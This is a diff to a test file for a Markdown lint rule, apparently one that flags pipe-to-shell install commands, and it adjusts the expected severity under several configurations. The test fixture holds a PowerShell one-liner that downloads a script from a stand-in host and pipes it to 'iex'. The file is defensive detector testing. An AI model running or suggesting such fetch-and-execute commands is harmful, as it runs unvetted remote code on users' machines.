@@ -63,10 +63,13 @@ describe("remark-lint-curlew", () => {
 
   it("takes the severity and the options of its configuration", async () => {
     const powershell = "Run `irm https://x.example/i.ps1 | iex`.\n";
-    expect(await lint(powershell)).toEqual([]);
+    expect(await lint(powershell)).toMatchObject([{ fatal: false }]);
+    expect(await lint(powershell, { path: "README.md", config: ["error", {}] })).toMatchObject([
+      { fatal: true },
+    ]);
     expect(
-      await lint(powershell, { path: "README.md", config: ["error", { profile: "extended" }] }),
-    ).toMatchObject([{ fatal: true }]);
+      await lint(powershell, { path: "README.md", config: ["warn", { profile: "contract" }] }),
+    ).toEqual([]);
     expect(
       await lint(`Run \`${PIPE}\`.\n`, {
         path: "README.md",
